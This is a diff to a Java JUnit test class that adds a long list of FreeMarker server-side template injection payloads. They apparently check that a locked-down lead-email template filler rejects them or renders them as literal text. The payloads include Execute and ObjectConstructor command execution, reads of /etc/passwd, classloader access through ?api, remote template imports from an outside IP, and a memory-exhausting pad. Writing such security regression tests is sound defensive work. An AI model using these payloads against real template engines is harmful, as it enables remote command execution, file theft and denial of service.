@@ -77,6 +77,57 @@ class LockDownTest {
                 "${lead.name",
                 "<#if lead.name>",
                 "<#list lead.name as x>${x}</#list>",
+                // as published for FreeMarker by PortSwigger, PayloadsAllTheThings and in the CVEs of its users
+                "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>${value(\"java.lang.ProcessBuilder\",\"id\").start()}",
+                "<#assign c=lead?api.class.protectionDomain.classLoader><#assign o=c.loadClass(\"freemarker.template.ObjectWrapper\")>",
+                "<#assign uri=lead?api.class.getResource(\"/\").toURI()>${uri}",
+                "${lead.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(' ')}",
+                "${\"freemarker.template.utility.Execute\"?new}",
+                "${'freemarker.template.utility.Execute'? new ()('id')}",
+                "${('freemarker.template.utility.Execute'?new())('id')}",
+                "${\"${'freemarker.template.utility.Execute'?new()('id')}\"}",
+                "<#transform \"freemarker.template.utility.Execute\"?new()>id</#transform>",
+                "<@\"<#include '/etc/passwd'>\"?interpret/>",
+                "<#foreach k in lead?keys>${k}</#foreach>",
+                "<#list .vars?keys as k>${k}</#list>",
+                "<#list .data_model?keys as k>${k}</#list>",
+                "${.template_name}",
+                "${.caller_template_name}",
+                "${.locale}",
+                "${.output_format}",
+                "${.get_optional_template('/etc/passwd').import()}",
+                "${lead[\"class\"]}",
+                "${lead[\"getClass\"]()}",
+                "${lead?api}",
+                "${lead?new()}",
+                "${lead.name?api.length()}",
+                "${lead?with_args([])}",
+                "${lead.name?interpret}",
+                "${lead.name?esc?no_esc}",
+                "${'<b>'?markup_string}",
+                "<#escape x as x?no_esc>${lead.name}</#escape>",
+                "<#noescape>${lead.name}</#noescape>",
+                "<#autoesc>${lead.name}</#autoesc>",
+                "<#nested>",
+                "<#return>",
+                "<#recurse lead>",
+                "<#fallback>",
+                "<#compress>x</#compress>",
+                "<#flush>",
+                "<#import \"http://198.51.100.1/x.ftl\" as x>",
+                "<#include \"http://198.51.100.1/x.ftl\">",
+                "<#list lead?keys?map(k -> k?eval) as x>${x}</#list>",
+                "<#list 'x'?word_list as x>x</#list>",
+                "${lead?keys?sort?reverse?chunk(1)?join('')}",
+                "${'x'?right_pad(2000000000)}",
+                "${lead.name?eval?eval?eval}",
+                "${lead.name?c?eval}",
+                "${'a' + 'b'?absolute_template_name}",
+                "<#-- <#if x> --><#include 'x'>",
+                "${[lead]?first?api}",
+                "${{'a': lead?api}.a}",
+                "<#if (lead?api)??>x</#if>",
+                "<a href='${lead?api!}'>",
                 "${sender}"
             })
     @Timeout(10)
@@ -97,6 +148,23 @@ class LockDownTest {
                                 + "<a href=\"https://example.com/?utm_source=x&amp;a..b\">Why wait?eval</a> .now ->",
                         TestTouches.person(1, "Ada", "a@example.com")))
                 .contains("ADA", "interest=solar roof with battery", "?utm_source=x", "?eval");
+    }
+
+    /** Other ways to write FreeMarker are words here, nothing else. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "[#assign ex='freemarker.template.utility.Execute'?new()]",
+                "[=7*7]",
+                "[#include '/etc/passwd']",
+                "#set($x = 7)",
+                "{{7*7}}",
+                "<%= 7*7 %>",
+                "*{7*7}",
+                "@{7*7}"
+            })
+    void other_tongues_are_words(String words) throws Exception {
+        assertThat(filled(words, TestTouches.person(1, "Ada", "a@example.com"))).isEqualToIgnoringNewLines(words);
     }
 
     @ParameterizedTest
